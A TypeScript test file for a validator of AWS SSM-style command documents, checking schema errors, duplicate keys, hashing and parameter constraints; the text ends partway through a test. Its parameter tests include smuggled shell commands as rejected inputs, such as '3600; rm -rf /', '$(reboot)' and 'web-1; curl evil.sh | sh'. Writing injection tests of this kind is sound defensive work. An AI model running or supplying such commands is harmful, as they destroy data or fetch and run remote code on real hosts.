import { describe, expect, it } from 'vitest';
import {
  COMMAND_ACTIONS,
  DEFAULT_EXECUTION_TIMEOUT_SECONDS,
  MAX_DOCUMENT_CONTENT_BYTES,
  describeParameters,
  documentHash,
  executionTimeoutSeconds,
  isCommandAction,
  parseCommandDocument,
  renderSteps,
  validateParameters,
  type CommandDocument,
} from './document.js';
import { findDuplicateJsonKey } from './document-json.js';
import { ValidationError } from './errors.js';

type Json = Record<string, unknown>;

/** A valid schema 2.2 document with one shell step, with top-level keys replaced by `overrides`. */
function aDocument(overrides: Json = {}): Json {
  return {
    schemaVersion: '2.2',
    description: 'Test document',
    parameters: { commands: { type: 'StringList', minItems: 1 } },
    mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: '{{ commands }}' } }],
    ...overrides,
  };
}

/** `aDocument` with one parameter definition (named `x`) and a step that does not use it. */
function withParameter(definition: unknown): Json {
  return aDocument({
    parameters: { x: definition },
    mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: 'true' } }],
  });
}

/** `aDocument` with these steps. */
function withSteps(...steps: unknown[]): Json {
  return aDocument({ mainSteps: steps });
}

function shellStep(name: string, inputs: Json = { runCommand: 'true' }, extra: Json = {}): Json {
  return { action: 'aws:runShellScript', name, inputs, ...extra };
}

function parse(document: unknown): CommandDocument {
  return parseCommandDocument(JSON.stringify(document), 'JSON');
}

/** The ValidationError `fn` throws; fails the test when it throws anything else or nothing. */
function validationErrorOf(fn: () => unknown): ValidationError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(ValidationError);
    return error as ValidationError;
  }
  throw new Error('expected a ValidationError, but nothing was thrown');
}

describe('parseCommandDocument', () => {
  interface InvalidCase {
    readonly title: string;
    /** A JSON value to serialise, or raw content when a string. */
    readonly content: unknown;
    readonly reason: 'DocumentContent' | 'DocumentSchemaVersion' | 'DocumentTooLarge';
    /** Text the message must contain: the field it names and the problem. */
    readonly mentions: readonly string[];
  }

  const invalidCases: InvalidCase[] = [
    // Content as a whole.
    { title: 'empty content', content: '  ', reason: 'DocumentContent', mentions: ['empty'] },
    {
      title: 'content that is not JSON',
      content: '{"schemaVersion": "2.2",',
      reason: 'DocumentContent',
      mentions: ['not valid JSON'],
    },
    {
      title: 'content that is a JSON list',
      content: '[]',
      reason: 'DocumentContent',
      mentions: ['must be an object'],
    },
    {
      title: 'a parameter declared twice',
      content:
        '{"schemaVersion":"2.2","parameters":{"commands":{"type":"String"},"commands":{"type":"StringList"}},' +
        '"mainSteps":[{"action":"aws:runShellScript","name":"run","inputs":{"runCommand":"{{ commands }}"}}]}',
      reason: 'DocumentContent',
      mentions: ['parameters.commands: is defined twice'],
    },
    {
      title: 'an input given twice',
      content:
        '{"schemaVersion":"2.2","mainSteps":[{"action":"aws:runShellScript","name":"run",' +
        '"inputs":{"runCommand":"a","runCommand":"b"}}]}',
      reason: 'DocumentContent',
      mentions: ['mainSteps[0].inputs.runCommand: is defined twice'],
    },
    // Schema version.
    {
      title: 'schema version 2.0',
      content: aDocument({ schemaVersion: '2.0' }),
      reason: 'DocumentSchemaVersion',
      mentions: ['schemaVersion "2.0"', 'use "2.2"'],
    },
    {
      title: 'an Automation schema version',
      content: aDocument({ schemaVersion: '0.3' }),
      reason: 'DocumentSchemaVersion',
      mentions: ['schemaVersion "0.3"'],
    },
    {
      title: 'a schema version that is not a string',
      content: aDocument({ schemaVersion: true }),
      reason: 'DocumentSchemaVersion',
      mentions: ['schemaVersion must be a string'],
    },
    {
      title: 'no schema version',
      content: aDocument({ schemaVersion: undefined }),
      reason: 'DocumentContent',
      mentions: ['schemaVersion: is required'],
    },
    // Top level.
    {
      title: 'runtimeConfig in a schema 2.2 document',
      content: aDocument({ runtimeConfig: {} }),
      reason: 'DocumentContent',
      mentions: ['runtimeConfig: is not a known key here'],
    },
    {
      title: 'a description that is not a string',
      content: aDocument({ description: 42 }),
      reason: 'DocumentContent',
      mentions: ['description: must be a string'],
    },
    {
      title: 'parameters given as a list',
      content: aDocument({ parameters: [] }),
      reason: 'DocumentContent',
      mentions: ['parameters: must be an object'],
    },
    // Parameter definitions.
    {
      title: 'a parameter name with a hyphen',
      content: aDocument({ parameters: { 'bad-name': { type: 'String' } } }),
      reason: 'DocumentContent',
      mentions: ['parameters.bad-name: is not a valid parameter name'],
    },
    {
      title: 'a parameter without a type',
      content: withParameter({ description: 'no type' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.type: is required'],
    },
    {
      title: 'an unknown parameter type',
      content: withParameter({ type: 'Number' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.type: "Number" is not a parameter type'],
    },
    {
      title: 'a misspelt parameter property',
      content: withParameter({ type: 'String', defualt: 'x' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.defualt: is not a known key here'],
    },
    {
      title: 'a String default that is a number',
      content: withParameter({ type: 'String', default: 3600 }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: must be a string'],
    },
    {
      title: 'a StringList default that is a string',
      content: withParameter({ type: 'StringList', default: 'ls' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: must be a list of strings'],
    },
    {
      title: 'a Boolean default written as a string',
      content: withParameter({ type: 'Boolean', default: 'true' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: must be true or false'],
    },
    {
      title: 'an Integer default with a fraction',
      content: withParameter({ type: 'Integer', default: 1.5 }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: must be an integer'],
    },
    {
      title: 'a StringMap default that is a list',
      content: withParameter({ type: 'StringMap', default: [] }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: must be a JSON object'],
    },
    {
      title: 'a MapList default of numbers',
      content: withParameter({ type: 'MapList', default: [1] }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: must be a list of JSON objects'],
    },
    {
      title: 'an allowedPattern that does not compile',
      content: withParameter({ type: 'String', allowedPattern: '([a-z]+' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.allowedPattern: "([a-z]+" is not a regular expression'],
    },
    {
      title: 'an allowedPattern that would escape its anchors',
      content: withParameter({ type: 'String', allowedPattern: '[0-9]+)|(.*' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.allowedPattern: "[0-9]+)|(.*" is not a regular expression'],
    },
    {
      title: 'minItems above maxItems',
      content: withParameter({ type: 'StringList', minItems: 3, maxItems: 2 }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.minItems: (3) is greater than maxItems (2)'],
    },
    {
      title: 'minItems on a String parameter',
      content: withParameter({ type: 'String', minItems: 1 }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.minItems: applies only to StringList and MapList'],
    },
    {
      title: 'a negative maxChars',
      content: withParameter({ type: 'String', maxChars: -1 }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.maxChars: must be a non-negative integer'],
    },
    {
      title: 'maxChars on a Boolean parameter',
      content: withParameter({ type: 'Boolean', maxChars: 5 }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.maxChars: applies only to string values'],
    },
    {
      title: 'an empty allowedValues list',
      content: withParameter({ type: 'String', allowedValues: [] }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.allowedValues: must be a non-empty list'],
    },
    {
      title: 'an unknown displayType',
      content: withParameter({ type: 'String', displayType: 'dropdown' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.displayType: "dropdown" is not textfield or textarea'],
    },
    {
      title: 'a default outside allowedValues',
      content: withParameter({ type: 'String', allowedValues: ['Install', 'Uninstall'], default: 'Repair' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: "Repair" is not one of the allowed values'],
    },
    {
      title: 'a default that does not match allowedPattern',
      content: withParameter({ type: 'String', allowedPattern: '[0-9]+', default: '' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: "" does not match the allowed pattern [0-9]+'],
    },
    {
      title: 'a default longer than maxChars',
      content: withParameter({ type: 'String', maxChars: 3, default: 'abcd' }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default: "abcd" is longer than 3 characters'],
    },
    {
      title: 'a default that reads Parameter Store',
      content: withParameter({ type: 'StringList', default: ['{{ssm:RunCommand:2}}'] }),
      reason: 'DocumentContent',
      mentions: ['parameters.x.default[0]: references the Parameter Store parameter {{ssm:RunCommand:2}}'],
    },
    // Steps.
    {
      title: 'no mainSteps',
      content: aDocument({ mainSteps: undefined }),
      reason: 'DocumentContent',
      mentions: ['mainSteps: is required'],
    },
    {
      title: 'an empty mainSteps list',
      content: withSteps(),
      reason: 'DocumentContent',
      mentions: ['mainSteps: must be a list of at least one step'],
    },
    {
      title: 'a step that is a string',
      content: withSteps('aws:runShellScript'),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0]: must be an object'],
    },
    {
      title: 'a step without a name',
      content: withSteps({ action: 'aws:runShellScript', inputs: { runCommand: 'true' } }),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0].name: is required'],
    },
    {
      title: 'a step name with a space',
      content: withSteps(shellStep('run it')),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run it).name: "run it" is not a valid step name'],
    },
    {
      title: 'a step name of 101 characters',
      content: withSteps(shellStep('s'.repeat(101))),
      reason: 'DocumentContent',
      mentions: ['.name: ', 'is not a valid step name (1-100'],
    },
    {
      title: 'two steps with one name',
      content: withSteps(shellStep('run'), shellStep('first'), shellStep('run')),
      reason: 'DocumentContent',
      mentions: ['mainSteps[2] (run).name: "run" is already the name of mainSteps[0]'],
    },
    {
      title: 'an action Mado does not run',
      content: withSteps({ action: 'aws:runDocument', name: 'nested', inputs: {} }),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (nested).action: "aws:runDocument" is not a plugin Mado runs', 'aws:runShellScript'],
    },
    {
      title: 'a step without an action',
      content: withSteps({ name: 'run', inputs: { runCommand: 'true' } }),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).action: is required'],
    },
    {
      title: 'a step without inputs',
      content: withSteps({ action: 'aws:runShellScript', name: 'run' }),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs: is required'],
    },
    {
      title: 'inputs given as a list',
      content: withSteps({ action: 'aws:runShellScript', name: 'run', inputs: ['true'] }),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs: must be an object'],
    },
    {
      title: 'a shell step without runCommand',
      content: withSteps(shellStep('run', { workingDirectory: '/tmp' })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs.runCommand: is required by aws:runShellScript'],
    },
    {
      title: 'a runCommand that is a number',
      content: withSteps(shellStep('run', { runCommand: 7 })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs.runCommand: must be a string or a non-empty list of strings'],
    },
    {
      title: 'an empty runCommand list',
      content: withSteps(shellStep('run', { runCommand: [] })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs.runCommand: must be a string or a non-empty list'],
    },
    {
      title: 'a misspelt input',
      content: withSteps(shellStep('run', { runCommand: 'true', workingDir: '/tmp' })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs.workingDir: is not a known key here', 'workingDirectory'],
    },
    {
      title: 'a configurePackage step without a package name',
      content: withSteps({ action: 'aws:configurePackage', name: 'pkg', inputs: { action: 'Install' } }),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (pkg).inputs.name: is required by aws:configurePackage'],
    },
    {
      title: 'an unknown onFailure value',
      content: withSteps(shellStep('run', { runCommand: 'true', onFailure: 'continue' })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs.onFailure: "continue" is not exit or successAndExit'],
    },
    {
      title: 'finallyStep on a step that is not the last',
      content: withSteps(shellStep('cleanup', { runCommand: 'true', finallyStep: true }), shellStep('run')),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (cleanup).inputs.finallyStep: is allowed only on the last step'],
    },
    {
      title: 'a step-level key SSM does not define',
      content: withSteps(shellStep('run', { runCommand: 'true' }, { timeoutSeconds: 60 })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).timeoutSeconds: is not a known key here'],
    },
    // Preconditions.
    {
      title: 'a precondition with another operator',
      content: withSteps(shellStep('run', undefined, { precondition: { StringLike: ['platformType', 'Linux'] } })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).precondition: uses "StringLike"', 'only {"StringEquals"'],
    },
    {
      title: 'a precondition on an unknown platform',
      content: withSteps(shellStep('run', undefined, { precondition: { StringEquals: ['platformType', 'Solaris'] } })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).precondition.StringEquals[1]: "Solaris" is not a platform type'],
    },
    {
      title: 'a precondition with three operands',
      content: withSteps(
        shellStep('run', undefined, { precondition: { StringEquals: ['platformType', 'Linux', 'MacOS'] } }),
      ),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).precondition.StringEquals: must be a list of two operands'],
    },
    {
      title: 'a precondition on a parameter',
      content: withSteps(shellStep('run', undefined, { precondition: { StringEquals: ['{{ os }}', 'Linux'] } })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).precondition.StringEquals[0]: "{{ os }}" is not platformType'],
    },
    // References.
    {
      title: 'a reference to an undeclared parameter',
      content: withSteps(shellStep('prepare'), shellStep('runShellScript', { runCommand: '{{ comands }}' })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[1] (runShellScript).inputs.runCommand: references undeclared parameter {{ comands }}'],
    },
    {
      title: 'a reference to an undeclared parameter inside a list',
      content: withSteps(shellStep('run', { runCommand: ['cd /srv', 'tar xf {{archive}}'] })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs.runCommand[1]: references undeclared parameter {{ archive }}'],
    },
    {
      title: 'a Parameter Store reference in inputs',
      content: withSteps(shellStep('run', { runCommand: 'echo {{ ssm:/app/token }}' })),
      reason: 'DocumentContent',
      mentions: ['mainSteps[0] (run).inputs.runCommand: references the Parameter Store parameter', 'not supported'],
    },
    // Schema 1.2.
    {
      title: 'a schema 1.2 document without runtimeConfig',
      content: { schemaVersion: '1.2', parameters: {} },
      reason: 'DocumentContent',
      mentions: ['runtimeConfig: is required for schema 1.2'],
    },
    {
      title: 'a schema 1.2 document with mainSteps',
      content: { schemaVersion: '1.2', mainSteps: [], runtimeConfig: { 'aws:runShellScript': { properties: [{}] } } },
      reason: 'DocumentContent',
      mentions: ['mainSteps: is not a known key here'],
    },
    {
      title: 'a schema 1.2 plugin Mado does not run',
      content: { schemaVersion: '1.2', runtimeConfig: { 'aws:psModule': { properties: [{ id: '0.aws:psModule' }] } } },
      reason: 'DocumentContent',
      mentions: ['runtimeConfig.aws:psModule: "aws:psModule" is not a plugin Mado runs'],
    },
    {
      title: 'a schema 1.2 plugin with two property sets',
      content: {
        schemaVersion: '1.2',
        runtimeConfig: { 'aws:runShellScript': { properties: [{ runCommand: 'a' }, { runCommand: 'b' }] } },
      },
      reason: 'DocumentContent',
      mentions: ['runtimeConfig.aws:runShellScript.properties: must be one object, or a list of exactly one'],
    },
    {
      title: 'a schema 1.2 reference to an undeclared parameter',
      content: {
        schemaVersion: '1.2',
        runtimeConfig: { 'aws:runShellScript': { properties: [{ id: '0', runCommand: '{{ commands }}' }] } },
      },
      reason: 'DocumentContent',
      mentions: ['runtimeConfig.aws:runShellScript.properties[0].runCommand: references undeclared parameter'],
    },
    // Size.
    {
      title: 'content over 64 KB',
      content: JSON.stringify(aDocument({ description: 'x'.repeat(MAX_DOCUMENT_CONTENT_BYTES) })),
      reason: 'DocumentTooLarge',
      mentions: ['65536 bytes (64 KB)'],
    },
  ];

  it.each(invalidCases)('refuses $title with $reason', ({ content, reason, mentions }) => {
    const text = typeof content === 'string' ? content : JSON.stringify(content);
    const error = validationErrorOf(() => parseCommandDocument(text, 'JSON'));
    expect(error.reason).toBe(reason);
    for (const mention of mentions) {
      expect(error.message).toContain(mention);
    }
  });

  it('reports every problem of a document in one error, one violation each', () => {
    const error = validationErrorOf(() =>
      parse(
        aDocument({
          parameters: { commands: { type: 'StringList' }, timeout: { type: 'Integer', default: '60' } },
          mainSteps: [shellStep('run', { runCommand: '{{ comands }}' }), shellStep('run')],
        }),
      ),
    );
    expect(error.reason).toBe('DocumentContent');
    expect(error.violations.map((violation) => violation.field)).toEqual([
      'parameters.timeout.default',
      'mainSteps[1] (run).name',
    ]);
    // The undeclared reference is checked only once the parameters themselves are valid.
    expect(error.message).toBe(
      'parameters.timeout.default: must be an integer (not a string) for a Integer parameter; ' +
        'mainSteps[1] (run).name: "run" is already the name of mainSteps[0]',
    );
  });

  it('counts the size limit in UTF-8 bytes, not characters', () => {
    const base = JSON.stringify(aDocument({ description: '' }));
    const room = MAX_DOCUMENT_CONTENT_BYTES - new TextEncoder().encode(base).length;
    // 'é' is two bytes in UTF-8: the description fills the limit exactly.
    const filler = 'é'.repeat(Math.floor(room / 2)) + 'x'.repeat(room % 2);
    const fits = JSON.stringify(aDocument({ description: filler }));
    expect(new TextEncoder().encode(fits).length).toBe(MAX_DOCUMENT_CONTENT_BYTES);
    expect(() => parseCommandDocument(fits, 'JSON')).not.toThrow();
    const over = JSON.stringify(aDocument({ description: `${filler}x` }));
    expect(validationErrorOf(() => parseCommandDocument(over, 'JSON')).reason).toBe('DocumentTooLarge');
  });

  it('reads YAML content with the same rules as JSON', () => {
    const error = validationErrorOf(() => parseCommandDocument('schemaVersion: "2.2"\n', 'YAML'));
    expect(error.reason).toBe('DocumentContent');
    expect(error.message).toBe('mainSteps: is required: a list of at least one step');
  });

  it('parses a schema 2.2 document into typed parameters and steps', () => {
    const document = parse({
      schemaVersion: '2.2',
      description: 'Restart a service',
      parameters: {
        service: { type: 'String', description: 'Unit name', allowedPattern: '[a-z-]+', default: 'nginx' },
        flags: { type: 'StringList', default: ['--now'], maxItems: 4 },
        force: { type: 'Boolean', default: false },
        retries: { type: 'Integer', default: 2, allowedValues: [1, 2, 3] },
        env: { type: 'StringMap', default: { A: '1' } },
        hosts: { type: 'MapList', default: [{ name: 'a' }] },
      },
      mainSteps: [
        {
          action: 'aws:runShellScript',
          name: 'restart',
          precondition: { StringEquals: ['platformType', 'Linux'] },
          inputs: { runCommand: ['systemctl restart {{ service }}'], timeoutSeconds: '60', onFailure: 'exit' },
        },
        {
          action: 'aws:runPowerShellScript',
          name: 'restart.windows',
          precondition: { StringEquals: ['platformType', 'Windows'] },
          inputs: { runCommand: 'Restart-Service {{service}}', finallyStep: true },
        },
      ],
    });
    expect(document.schemaVersion).toBe('2.2');
    expect(document.description).toBe('Restart a service');
    expect([...document.parameters.keys()]).toEqual(['service', 'flags', 'force', 'retries', 'env', 'hosts']);
    expect(document.parameters.get('service')).toEqual({
      type: 'String',
      description: 'Unit name',
      allowedPattern: '[a-z-]+',
      default: 'nginx',
    });
    expect(document.parameters.get('retries')?.allowedValues).toEqual(['1', '2', '3']);
    expect(document.mainSteps.map((step) => [step.name, step.action, step.precondition?.StringEquals[1]])).toEqual([
      ['restart', 'aws:runShellScript', 'Linux'],
      ['restart.windows', 'aws:runPowerShellScript', 'Windows'],
    ]);
    expect(document.platformTypes).toEqual(['Windows', 'Linux']);
  });

  it('accepts schemaVersion written as the number 2.2, as YAML reads it', () => {
    expect(parse(aDocument({ schemaVersion: 2.2 })).schemaVersion).toBe('2.2');
  });

  it('accepts a document without parameters', () => {
    const document = parse({ schemaVersion: '2.2', mainSteps: [shellStep('run')] });
    expect(document.parameters.size).toBe(0);
    expect(document.description).toBeUndefined();
  });

  it('keeps parameter names that are also Object.prototype members as plain names', () => {
    // Written as text: in an object literal, `__proto__` would set the prototype instead.
    const document = parseCommandDocument(
      '{"schemaVersion":"2.2","parameters":{"constructor":{"type":"String","default":"c"},' +
        '"__proto__":{"type":"String","default":"p"}},"mainSteps":[{"action":"aws:runShellScript","name":"run",' +
        '"inputs":{"runCommand":"echo {{ constructor }} {{ __proto__ }}"}}]}',
      'JSON',
    );
    expect([...document.parameters.keys()]).toEqual(['constructor', '__proto__']);
    const [step] = renderSteps(document, validateParameters(document, {}));
    expect(step?.inputs['runCommand']).toBe('echo c p');
  });

  it('names a schema 1.2 step after its plugin and drops the property id', () => {
    const document = parse({
      schemaVersion: '1.2',
      parameters: { commands: { type: 'StringList' } },
      runtimeConfig: {
        'aws:runShellScript': { properties: [{ id: '0.aws:runShellScript', runCommand: '{{ commands }}' }] },
      },
    });
    expect(document.mainSteps).toEqual([
      { action: 'aws:runShellScript', name: 'aws:runShellScript', inputs: { runCommand: '{{ commands }}' } },
    ]);
  });

  it('leaves text that only looks like a reference alone', () => {
    const document = parse(
      withSteps(shellStep('run', { runCommand: ["docker ps --format '{{.Names}}'", 'echo {{ not-a-name }}'] })),
    );
    expect(document.mainSteps[0]?.inputs).toEqual({
      runCommand: ["docker ps --format '{{.Names}}'", 'echo {{ not-a-name }}'],
    });
  });

  describe('platformTypes', () => {
    it.each([
      ['a shell step', [shellStep('a')], ['Linux', 'MacOS']],
      [
        'a PowerShell step',
        [{ action: 'aws:runPowerShellScript', name: 'a', inputs: { runCommand: 'x' } }],
        ['Windows', 'Linux'],
      ],
      [
        'shell and PowerShell steps',
        [shellStep('a'), { action: 'aws:runPowerShellScript', name: 'b', inputs: { runCommand: 'x' } }],
        ['Windows', 'Linux', 'MacOS'],
      ],
      [
        'an agent update step',
        [{ action: 'aws:updateSsmAgent', name: 'a', inputs: { agentName: 'a', source: 's', allowDowngrade: 'false' } }],
        ['Windows', 'Linux', 'MacOS'],
      ],
      [
        'a package step',
        [{ action: 'aws:configurePackage', name: 'a', inputs: { name: 'p', action: 'Install' } }],
        ['Windows', 'Linux'],
      ],
      [
        'a shell step limited to MacOS',
        [shellStep('a', undefined, { precondition: { StringEquals: ['platformType', 'MacOS'] } })],
        ['MacOS'],
      ],
      [
        'steps each limited to one platform',
        [
          shellStep('a', undefined, { precondition: { StringEquals: ['platformType', 'Linux'] } }),
          {
            action: 'aws:runPowerShellScript',
            name: 'b',
            inputs: { runCommand: 'x' },
            precondition: { StringEquals: ['platformType', 'Windows'] },
          },
        ],
        ['Windows', 'Linux'],
      ],
    ])('derives them for %s', (_title, steps, platforms) => {
      expect(parse(withSteps(...steps)).platformTypes).toEqual(platforms);
    });
  });
});

describe('COMMAND_ACTIONS', () => {
  it('lists the four plugins Mado runs', () => {
    expect(Object.keys(COMMAND_ACTIONS)).toEqual([
      'aws:runShellScript',
      'aws:runPowerShellScript',
      'aws:updateSsmAgent',
      'aws:configurePackage',
    ]);
  });

  it.each([
    ['aws:runShellScript', true],
    ['aws:configurePackage', true],
    ['aws:runDocument', false],
    ['toString', false],
    ['AWS:RUNSHELLSCRIPT', false],
  ])('tells whether %s is an action Mado runs', (action, isKnown) => {
    expect(isCommandAction(action)).toBe(isKnown);
  });
});

describe('findDuplicateJsonKey', () => {
  it.each([
    ['{"a":1,"b":2}', undefined],
    ['{"a":1,"a":2}', 'a'],
    ['{"a":{"x":1},"b":{"x":1}}', undefined],
    ['{"a":{"x":1,"x":2}}', 'a.x'],
    ['{"list":[{"k":1},{"k":1,"k":2}]}', 'list[1].k'],
    ['{"s":"a,\\"b\\":{\\"c\\"","t":"}","s":1}', 's'],
    ['{"a\\u0062":1,"ab":2}', 'ab'],
    ['[1,[2,{"x":1,"y":{},"x":2}]]', '[1][1].x'],
  ])('finds the duplicate in %s', (text, path) => {
    expect(findDuplicateJsonKey(text)).toBe(path);
  });
});

describe('documentHash', () => {
  it('is the lower-case hex SHA-256 of the content', () => {
    expect(documentHash('')).toBe('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
    expect(documentHash('abc')).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
  });

  it('hashes the UTF-8 bytes of the content', () => {
    expect(documentHash('é')).toBe('4a99557e4033c3539de2eb65472017cad5f9557f7a0625a09f1c3f6e2ba69c4c');
    expect(documentHash('é')).not.toBe(documentHash('e\u0301'));
  });
});

/** Parameters of every type and constraint, for `validateParameters`. */
const PARAMETERS_DOCUMENT = parse({
  schemaVersion: '2.2',
  parameters: {
    target: { type: 'String', allowedPattern: '[a-zA-Z0-9.-]+' },
    commands: { type: 'StringList', minItems: 1, maxItems: 3, maxChars: 20 },
    mode: { type: 'String', allowedValues: ['fast', 'safe'], default: 'safe' },
    executionTimeout: {
      type: 'String',
      default: '3600',
      allowedPattern: '([1-9][0-9]{0,4})|(1[0-6][0-9]{4})|(17[0-1][0-9]{3})|(172[0-7][0-9]{2})|(172800)',
    },
    dryRun: { type: 'Boolean', default: false },
    retries: { type: 'Integer', default: 3 },
    tags: { type: 'StringMap', default: {} },
    hosts: { type: 'MapList', default: [], maxItems: 2 },
    label: { type: 'String', minChars: 2, maxChars: 5, default: 'ab' },
  },
  mainSteps: [shellStep('run', { runCommand: '{{ commands }}' })],
});

const REQUIRED = { target: ['web-1'], commands: ['uptime'] };

describe('validateParameters', () => {
  it('fills in defaults for every parameter the caller leaves out', () => {
    expect(Object.fromEntries(validateParameters(PARAMETERS_DOCUMENT, REQUIRED))).toEqual({
      target: 'web-1',
      commands: ['uptime'],
      mode: 'safe',
      executionTimeout: '3600',
      dryRun: false,
      retries: 3,
      tags: {},
      hosts: [],
      label: 'ab',
    });
  });

  it.each([
    ['a String', { mode: ['fast'] }, 'mode', 'fast'],
    ['a StringList of three', { commands: ['a', 'b', 'c'] }, 'commands', ['a', 'b', 'c']],
    ['a StringList with shell syntax', { commands: ['echo $(id); rm x'] }, 'commands', ['echo $(id); rm x']],
    ['a Boolean true', { dryRun: ['true'] }, 'dryRun', true],
    ['a Boolean false', { dryRun: ['false'] }, 'dryRun', false],
    ['a negative Integer', { retries: ['-2'] }, 'retries', -2],
    ['a StringMap', { tags: ['{"SSM_env":"prod"}'] }, 'tags', { SSM_env: 'prod' }],
    ['a MapList', { hosts: ['[{"name":"a"},{"name":"b"}]'] }, 'hosts', [{ name: 'a' }, { name: 'b' }]],
    ['the largest executionTimeout', { executionTimeout: ['172800'] }, 'executionTimeout', '172800'],
    ['the smallest executionTimeout', { executionTimeout: ['1'] }, 'executionTimeout', '1'],
    ['a String of three emoji against maxChars 5', { label: ['👍👍👍'] }, 'label', '👍👍👍'],
    ['an empty command line', { commands: [''] }, 'commands', ['']],
  ])('accepts %s', (_title, given, name, value) => {
    expect(validateParameters(PARAMETERS_DOCUMENT, { ...REQUIRED, ...given }).get(name)).toEqual(value);
  });

  it.each([
    ['an unknown parameter name', { comands: ['ls'] }, 'comands: is not a parameter of this document'],
    ['a missing required String', { target: undefined }, 'target: is required'],
    ['a missing required StringList', { commands: undefined }, 'commands: is required'],
    ['two values for a String', { mode: ['fast', 'safe'] }, 'mode: requires exactly one value (got 2)'],
    ['no value for a String with a default', { mode: [] }, 'mode: requires exactly one value (got 0)'],
    [
      'a value outside allowedValues',
      { mode: ['turbo'] },
      'mode: "turbo" is not one of the allowed values ("fast", "safe")',
    ],
    [
      'a command appended to executionTimeout',
      { executionTimeout: ['3600; rm -rf /'] },
      'executionTimeout: "3600; rm -rf /" does not match the allowed pattern',
    ],
    [
      'a command substitution as executionTimeout',
      { executionTimeout: ['$(reboot)'] },
      'executionTimeout: "$(reboot)" does not match',
    ],
    [
      'a second line after executionTimeout',
      { executionTimeout: ['3600\nreboot'] },
      'executionTimeout: "3600\\nreboot" does not match',
    ],
    ['executionTimeout above 48 hours', { executionTimeout: ['172801'] }, 'executionTimeout: "172801" does not match'],
    ['executionTimeout 0', { executionTimeout: ['0'] }, 'executionTimeout: "0" does not match'],
    [
      'a target with a shell separator',
      { target: ['web-1; curl evil.sh | sh'] },
      'target: "web-1; curl evil.sh | sh" does not match the allowed pattern [a-zA-Z0-9.-]+',
    ],
    ['a target with backticks', { target: ['`id`'] }, 'target: "`id`" does not match'],
    ['an empty StringList where minItems is 1', { commands: [] }, 'commands: requires at least 1 value (got 0)'],
    ['a StringList over maxItems', { commands: ['a', 'b', 'c', 'd'] }, 'commands: allows at most 3 values (got 4)'],
    ['a list item over maxChars', { commands: ['x'.repeat(21)] }, 'is longer than 20 characters'],
    ['a Boolean written yes', { dryRun: ['yes'] }, 'dryRun: "yes" is not a Boolean (true or false)'],
    ['a Boolean in capitals', { dryRun: ['True'] }, 'dryRun: "True" is not a Boolean'],
    ['an Integer with a fraction', { retries: ['3.5'] }, 'retries: "3.5" is not an Integer'],
    ['an Integer that is a word', { retries: ['three'] }, 'retries: "three" is not an Integer'],
    ['an Integer beyond 2^53', { retries: ['9007199254740993'] }, 'retries: "9007199254740993" is not an Integer'],
    ['two Integers', { retries: ['1', '2'] }, 'retries: requires exactly one value (got 2)'],
    ['a StringMap that is a list', { tags: ['[]'] }, 'tags: "[]" is not a JSON object'],
    ['a StringMap that is not JSON', { tags: ['{SSM_env: prod}'] }, 'tags: "{SSM_env: prod}" is not valid JSON'],
    ['a MapList of numbers', { hosts: ['[1,2]'] }, 'hosts: "[1,2]" is not a JSON list of objects'],
    ['a MapList over maxItems', { hosts: ['[{"n":1},{"n":2},{"n":3}]'] }, 'hosts: allows at most 2 values (got 3)'],
    [
      'a MapList that is one object',
      { hosts: ['{"name":"a"}'] },
      'hosts: "{\\"name\\":\\"a\\"}" is not a JSON list of objects',
    ],
    ['a String under minChars', { label: ['a'] }, 'label: "a" is shorter than 2 characters'],
    ['a String over maxChars', { label: ['abcdef'] }, 'label: "abcdef" is longer than 5 characters'],
  ])('refuses %s as DocumentParameters', (_title, given, mention) => {
    const parameters = Object.fromEntries(
      Object.entries({ ...REQUIRED, ...given }).filter((entry): entry is [string, string[]] => entry[1] !== undefined),
    );
